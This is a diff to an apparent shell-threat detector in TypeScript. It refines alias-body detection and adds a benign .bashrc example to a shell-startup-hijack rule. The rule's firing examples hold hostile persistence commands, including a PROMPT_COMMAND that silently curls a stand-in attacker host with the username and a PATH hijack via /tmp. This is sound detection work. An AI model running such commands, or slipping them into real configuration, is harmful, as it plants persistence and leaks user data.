@@ -282,7 +282,10 @@ export function threat(group: PersistedGroup, input: AnalysisInput): { level: 0 
     if (c.name === 'alias') {
       const def = c.argv[1] ?? '';
       const name = def.slice(0, def.indexOf('='));
-      const body = group.cmds.filter((x) => x.depth > c.depth && x.origin === 'eval');
+      // the alias's own body: the commands nested right after it (another eval in the same file is not it)
+      const at = group.cmds.indexOf(c);
+      const next = group.cmds.findIndex((x, k) => k > at && x.depth <= c.depth);
+      const body = group.cmds.slice(at + 1, next < 0 ? undefined : next).filter((x) => x.origin === 'eval');
       if (SENSITIVE_ALIASES.has(name) && body.some((x) => x.name === 'read' || x.name === 'tee' || x.redirects.some((r) => r.op.includes('>') && r.target !== '/dev/null' && !/^\d+$/.test(r.target)))) return { level: 2, evidence: def };
       if (SENSITIVE_ALIASES.has(name) && body.some((x) => x.name !== name && x.name !== 'command')) suspicious ??= def;
     }
@@ -702,7 +705,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-PERSIST-002', name: 'shell-startup-hijack', score: 55, tactic: 'persistence', technique: 'T1546.004',
     message: 'Changes shell startup to run extra code', why: 'PROMPT_COMMAND, a PATH that starts in a temp directory, an alias that shadows a common command or a background job in an rc file runs silently in every shell.',
     check: (i) => persisted(i, ['shell-startup'], 1),
-    examples: { fire: ['echo \'export PROMPT_COMMAND="(curl -s https://evil.example/k?u=$USER >/dev/null 2>&1 &)"\' >> ~/.bash_profile', "echo 'export PATH=/tmp/.bin:$PATH' >> ~/.bashrc", "echo 'export PROMPT_COMMAND=\"history -a; logger x\"' >> ~/.bashrc", "cp ./helper ~/.local/bin/ && echo '~/.local/bin/helper &' >> ~/.profile"], quiet: ['echo \'export PATH="$HOME/.cargo/bin:$PATH"\' >> ~/.bashrc', 'echo \'alias ll="ls -la"\' >> ~/.bashrc', "echo 'source ~/.nvm/nvm.sh' >> ~/.zshrc"] },
+    examples: { fire: ['echo \'export PROMPT_COMMAND="(curl -s https://evil.example/k?u=$USER >/dev/null 2>&1 &)"\' >> ~/.bash_profile', "echo 'export PATH=/tmp/.bin:$PATH' >> ~/.bashrc", "echo 'export PROMPT_COMMAND=\"history -a; logger x\"' >> ~/.bashrc", "cp ./helper ~/.local/bin/ && echo '~/.local/bin/helper &' >> ~/.profile"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/m/.bashrc', content: 'if [ -x /usr/bin/dircolors ]; then\n    eval "$(dircolors -b)"\n    alias ls=\'ls --color=auto\'\n    alias grep=\'grep --color=auto\'\nfi\n' } }, 'echo \'export PATH="$HOME/.cargo/bin:$PATH"\' >> ~/.bashrc', 'echo \'alias ll="ls -la"\' >> ~/.bashrc', "echo 'source ~/.nvm/nvm.sh' >> ~/.zshrc"] },
   },
   {
     id: 'PX-PERSIST-003', name: 'scheduled-task-runs-payload', score: 90, tactic: 'persistence', technique: 'T1053.003', strong: true,
